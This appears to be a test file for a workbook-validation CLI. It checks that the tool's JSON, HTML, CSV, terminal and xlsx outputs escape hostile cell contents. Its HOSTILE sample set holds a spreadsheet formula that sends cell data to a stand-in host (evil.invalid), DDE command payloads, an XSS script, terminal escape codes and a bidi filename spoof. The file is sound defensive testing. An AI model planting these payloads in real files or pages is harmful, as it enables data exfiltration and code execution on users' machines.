/**
 * Every output escapes what it embeds from a workbook: HTML markup, spreadsheet formulas in
 * CSV and xlsx, terminal control sequences and bidirectional marks in text (THREATS.md).
 */
import ExcelJS from 'exceljs';
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runCli } from '../support/cli';
import { gridToWorkbook } from '../support/write-grid';
import { UNSAFE_CHARS } from '../../engine/report/text';
import { blocToGrid } from '../../engine/template/writer';
import { laiChauMttq } from '../../samples/blocs';
import { edited } from '../../samples/faulty';
import { rezip } from '../support/zip';

/** Names a hostile sender could type into a unit cell. */
const HOSTILE = {
  formula: '=HYPERLINK("http://evil.invalid/?"&A1,"Bấm vào đây")',
  dde: "+cmd|' /C calc'!A0",
  at: '@SUM(1+1)*cmd',
  minus: '-2+3+cmd|\' /C calc\'!A0',
  script: '<script>alert("thidua")</script><img src=x onerror=alert(1)>',
  terminal: 'Hội \u001b[2J\u001b[31mđỏ\u0007',
  bidi: 'Hội \u202eosla.exe',
};

let dir: string;
let file: string;

const run = runCli;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'thidua-outputs-'));
  file = join(dir, 'doc-hai.xlsx');
  // Each hostile name is a proposal's unit: refs/unknown-unit quotes it in a message and a cell.
  // The bloc's name opens every CSV line's `bloc` field with a formula.
  const bloc = edited(laiChauMttq, (b) => {
    b.proposals = Object.values(HOSTILE).map((unit) => ({ unit, award: b.proposals[0]!.award, achievement: unit }));
    b.blocName = HOSTILE.formula;
  });
  // XML cannot carry ESC or BEL as characters; a hostile file carries them as character references.
  const written = Buffer.from(await gridToWorkbook(blocToGrid(bloc)).xlsx.writeBuffer());
  writeFileSync(file, rezip(written, (name, data) => (name === 'xl/sharedStrings.xml' ? Buffer.from(data.toString().replace('Hội [2J[31mđỏ', 'Hội &#x1b;[2J&#x1b;[31mđỏ&#x7;')) : data)));
});

afterAll(() => rmSync(dir, { recursive: true, force: true }));

test('the JSON report keeps the names exactly (JSON escapes them)', async () => {
  const r = await run(['validate', file, '--format', 'json', '--no-progress']);
  const text = JSON.stringify(JSON.parse(r.out));
  for (const name of Object.values(HOSTILE)) expect(text).toContain(JSON.stringify(name).slice(1, -1));
});

test('HTML: workbook text is text, never markup', async () => {
  const out = join(dir, 'bao-cao.html');
  await run(['validate', file, '--out', out, '--no-progress']);
  const html = readFileSync(out, 'utf8');
  expect(html).toContain('&lt;script&gt;alert(&quot;thidua&quot;)&lt;/script&gt;');
  expect(html).not.toMatch(/<script>alert|<img src=x/);
});

test('CSV: no field a spreadsheet would run as a formula', async () => {
  const out = join(dir, 'bao-cao.csv');
  await run(['validate', file, '--out', out, '--no-progress']);
  const csv = readFileSync(out, 'utf8');
  expect(csv).toContain(`"'${HOSTILE.formula.replace(/"/g, '""')}"`);
  // Every field, quoted or not, that starts with = + - @ carries the leading apostrophe.
  const fields = csv.split(/\r\n/).flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []).map((f) => f.replace(/,$/, '').replace(/^"/, ''));
  expect(fields.filter((f) => /^[=+\-@]/.test(f))).toEqual([]);
});

test('text: control characters and bidirectional marks are shown as replacements, never sent to the terminal', async () => {
  const r = await run(['validate', file, '--format', 'text', '--no-progress', '--no-color']);
  expect(r.out).toContain('Hội');
  expect(r.out).toBe(r.out.replace(UNSAFE_CHARS, ''));
  expect(r.out).toContain('\ufffd');
});

test('xlsx outputs (annotated copy, summary): workbook text is stored as text, never as a formula', async () => {
  const copies = join(dir, 'danh-dau');
  const summary = join(dir, 'tong-hop.xlsx');
  await run(['validate', file, '--format', 'json', '--annotate', copies, '--summary', summary, '--no-progress']);
  for (const path of [summary, ...readdirSync(copies).map((c) => join(copies, c))]) {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(path);
    let seen = 0;
    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => {
      const v = cell.value;
      if (typeof v === 'string' && /^[=+\-@]/.test(v)) seen++;
      // A cell written by thidua holds a value; only the sender's own formulas (none here) may be formulas.
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
    })));
    if (path === summary) expect(seen).toBeGreaterThan(0);
  }
});
